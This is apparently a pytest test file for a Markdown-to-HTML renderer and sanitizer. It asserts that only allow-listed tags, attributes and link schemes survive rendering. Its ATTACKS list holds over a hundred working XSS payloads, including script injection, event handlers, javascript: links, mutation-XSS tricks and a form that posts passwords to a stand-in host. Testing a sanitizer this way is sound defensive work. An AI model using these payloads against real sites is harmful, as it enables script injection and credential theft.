"""What comes out of markup is ours alone, whatever goes in."""

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tanu.lib.markup import Citations, clean, faults, is_allowed_link, links, render, render_inline

ELEMENTS = {
    *("p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr"),
    *("table", "thead", "tbody", "tr", "th", "td", "div"),
    *("a", "strong", "em", "br", "code"),
}
ATTRIBUTES = {"href", "class", "rel", "id", "start", "scope", "tabindex", "role", "aria-label"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<script/xss src='https://evil.example/x.js'></script>",
    "<<script>alert(1);//<</script>",
    "<script>/* unclosed",
    "<img src=x onerror=alert(1)>",
    "<img src='jav\tascript:alert(1)'>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=evil></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;inset:0' class='modal' id='x'>x</div>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<frameset onload=alert(1)></frameset>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https://tanu.example@evil.example'>x</a>",
    "<a href='http://evil.example'>x</a>",
    "<a href='ftp://evil.example/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='ｊavascript:alert(1)'>x</a>",
    "<a href='jаvascript:alert(1)'>Cyrillic а</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href=x target=_blank rel=opener ping=https://evil.example>x</a>",
    "<a href='x' class='btn cite evil' style='color:red' id='see'>x</a>",
    "<h2 id='x\" onmouseover=alert(1)'>x</h2>",
    "<h2 id=see onclick=alert(1)>x</h2>",
    "<div class=scroll tabindex=99 role=alert aria-label=x onfocus=alert(1)>x</div>",
    "<x onclick=alert(1)>custom</x>",
    "<a><b><p><table><a>unclosed",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "<sc\x00ript>alert(1)</sc\x00ript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x](x 'title' onclick=alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]: javascript:alert(1)\n\n[1]",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "![x][1]\n\n[1]: x 'onerror=alert(1)'",
    "[![x](x)](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "<javascript:alert(1)>",
    "<https://a.example/onclick=alert(1)>",
    "<admin@evil.example>",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "javascript://https://a.example/%0aalert(1)",
    "## x {#id onclick=alert(1)}",
    "## x {: onclick=alert(1)}",
    '## x {#x"onclick="alert(1)}',
    "## <script>alert(1)</script> {#see}",
    "text\n{: .x onclick=alert(1)}",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|---|\n| x |\n{: onclick=alert(1)}",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <script>\n- alert(1)</script>",
    "**<b onclick=alert(1)>**x",
    "\x02wzxhzdk:0\x03<script>",
    "\x02klzzwxh:0000\x03",
    "[F-CLIN-1](javascript:alert(1))",
    "[F-CLIN-19]<script>alert(1)</script>",
    '[F-X-1" onclick=alert(1)]',
]


def assert_only_ours(html: str) -> None:
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in tree.iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in ELEMENTS, html
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, html
            if name == "href":
                assert_leads_nowhere_else(value)
            if name == "class":
                assert value in {"cite", "scroll"}, html
            if name in {"id", "start"}:
                assert re.fullmatch(r"[a-z0-9-]+", value), html


def assert_leads_nowhere_else(target: str) -> None:
    """Reads the address as a browser does: blanks and controls dropped, backslashes turned."""
    seen = re.sub(r"[\x00-\x20\x7f-\xa0]", "", target).replace("\\", "/").lower()
    assert not seen.startswith("//")
    scheme = re.match(r"([^/?#]*?):", seen)
    assert scheme is None or scheme[1] in {"https", "tel", "mailto"}
    if scheme and scheme[1] == "https":
        assert "@" not in seen.removeprefix("https://").split("/")[0]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_text_or_not_at_all(attack: str) -> None:
    for html in (
        render(attack, citations=Citations(), table_label="Table"),
        render_inline(attack, citations=Citations()),
        clean(attack),
        clean(clean(attack)),
        clean(render(attack) + attack),
    ):
        assert_only_ours(html)


def test_the_corpus_is_large_and_has_no_twins() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) >= 60


PIECES = st.sampled_from(
    [*ATTACKS, "[", "](", ")", "`", "*", "\n", "\n\n", "|", "|---|", "{#", "}", "<", ">", "&", "'", '"']
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=12)), max_size=8).map("".join))
def test_mixtures_of_attacks_come_out_harmless(text: str) -> None:
    assert_only_ours(render(text, citations=Citations(), table_label=text))
    assert_only_ours(render_inline(text))
    assert_only_ours(clean(text))


@pytest.mark.parametrize("attack", [a for a in ATTACKS if re.match(r"<[a-zA-Z!?]", a)])
def test_raw_html_is_refused_with_its_line(attack: str) -> None:
    assert (3, f"raw HTML is not allowed: {attack[:1]}") in [
        (line, message[: len("raw HTML is not allowed: ") + 1]) for line, message in faults(f"one\n\n{attack}")
    ]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[x](javascript:alert(1))", "a link must be"),
        ("[x](http://a.kz)", "a link must be"),
        ("![x](y.png)", "figure directive"),
        ("# Title", "front matter"),
        ("## Title {#see onclick=1}", "braces"),
        ("text {: .red}", "braces"),
        ("said [F-CLIN-1, F-CLIN-2]", "brackets of its own"),
    ],
)
def test_what_an_author_must_change_is_said(text: str, words: str) -> None:
    assert [line for line, message in faults(f"fine\n{text}") if words in message] == [2]


def test_ordinary_prose_has_no_faults() -> None:
    text = '## See {#see}\n\nA < B, <1%, "x" & [a](https://a.kz/?b=1) [F-CLIN-1] [b](../02/01-x.kk.md#see) [c](tel:111)'
    assert list(faults(text)) == []
    assert [target for _, target in links(text)] == ["https://a.kz/?b=1", "../02/01-x.kk.md#see", "tel:111"]


@pytest.mark.parametrize(
    "target", ["https://adilet.zan.kz/rus", "tel:+77172000000", "mailto:a@b.kz", "#see", "../x/y.md"]
)
def test_a_link_may_lead_there(target: str) -> None:
    assert is_allowed_link(target)


def test_headings_get_their_anchor_and_can_be_moved_down() -> None:
    assert render("## What you *see* {#see}\n\n### Mimics {#see-mimics}") == (
        '<h2 id="see">What you <em>see</em></h2>\n<h3 id="see-mimics">Mimics</h3>'
    )
    assert render("## What {#see}", heading_shift=2) == '<h4 id="see">What</h4>'


def test_citations_are_numbered_in_the_order_of_the_lesson() -> None:
    citations = Citations()
    render("1. List [F-A-2].\n\nText [F-A-1].", citations=citations)
    html = render("Again [F-A-1], new [F-B-7].", citations=citations)
    assert citations.facts == ["F-A-2", "F-A-1", "F-B-7"]
    assert '<a class="cite" href="#src-F-A-1">2</a>' in html
    assert '<a class="cite" href="#src-F-B-7">3</a>' in html


def test_external_links_do_not_tell_where_the_reader_came_from() -> None:
    html = render("[a](https://a.kz) [b](../b.md) https://c.kz note.md")
    assert html.count('rel="noreferrer noopener"') == 2
    assert '<a href="../b.md">b</a>' in html
    assert '<a href="https://c.kz" rel="noreferrer noopener">https://c.kz</a> note.md' in html


@pytest.mark.parametrize("indent", [3, 4, 5])
def test_lists_nest_however_far_they_are_indented(indent: int) -> None:
    html = render(f"1. one\n2. two\n{' ' * indent}- a\n{' ' * indent}- b\n3. three")
    assert re.sub(r"\s", "", html) == "<ol><li>one</li><li>two<ul><li>a</li><li>b</li></ul></li><li>three</li></ol>"
    html = render(f"- one\n{' ' * (indent - 1)}- a\n- two")
    assert re.sub(r"\s", "", html) == "<ul><li>one<ul><li>a</li></ul></li><li>two</li></ul>"


def test_a_wide_table_scrolls_in_a_region_with_a_name() -> None:
    html = render("## Signs {#see}\n\n| A | B |\n|---|---|\n| 1 | 2 |", table_label="Table")
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    region = tree.find("div")
    assert region.attrib == {"class": "scroll", "tabindex": "0", "role": "region", "aria-label": "Table: Signs"}
    assert [cell.get("scope") for cell in region.iter("th")] == ["col", "col"]
    assert "<div" not in render("| A |\n|---|\n| 1 |")


def test_inline_text_has_no_paragraph_around_it() -> None:
    assert render_inline("A **bold**\nword & `code`") == "A <strong>bold</strong> word &amp; <code>code</code>"
    assert render_inline("1. Not a list") == "1. Not a list"


def test_the_same_text_gives_the_same_bytes() -> None:
    text = "[a](https://a.kz) [F-A-1]\n\n| A |\n|---|\n| 1 |"
    assert len({render(text, citations=Citations(), table_label="T") for _ in range(20)}) == 1
